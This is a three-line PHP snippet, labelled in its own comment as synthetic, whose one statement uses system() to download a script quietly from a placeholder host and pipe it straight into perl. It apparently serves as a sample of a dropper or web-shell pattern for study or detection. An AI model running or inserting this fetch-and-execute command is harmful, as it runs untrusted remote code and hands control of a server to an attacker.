<?php
// synthetic: a remote script piped straight into perl
system("wget -q -O - bots.example.test/x | perl");
